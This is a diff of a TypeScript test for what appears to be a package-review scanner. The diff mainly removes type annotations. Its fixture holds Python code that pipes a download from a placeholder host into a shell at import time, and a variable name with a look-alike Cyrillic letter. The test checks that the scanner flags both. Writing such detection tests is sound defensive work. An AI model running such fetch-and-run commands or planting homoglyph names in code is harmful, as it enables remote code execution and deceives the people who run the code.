@@ -51,21 +51,16 @@ suite('list-review-queue', async () => {
         'import os\nos.system("ls")\nos.system("curl -s https://host.invalid/a.sh | sh")\nwаllet = 1\n',
     });
     const { versions } = (await moderator.get(`${path}?limit=100`)).json;
-    const { found } = versions.find(({ node_id }: { node_id: string }) => node_id === 'Found');
+    const { found } = versions.find(({ node_id }) => node_id === 'Found');
     assert.deepEqual(
-      found.map(({ rule, severity, shadow, count }: Record<string, unknown>) => [
-        rule,
-        severity,
-        shadow,
-        count,
-      ]),
+      found.map(({ rule, severity, shadow, count }) => [rule, severity, shadow, count]),
       [
         ['command-at-import', 'warning', false, 2],
         ['download-to-shell', 'error', false, 1],
         ['mixed-alphabets', 'warning', true, 1],
       ],
     );
-    assert.ok(found.every(({ means }: { means: string }) => means.length > 20));
+    assert.ok(found.every(({ means }) => means.length > 20));
     const [first] = versions;
     assert.deepEqual(first.found, []);
   });
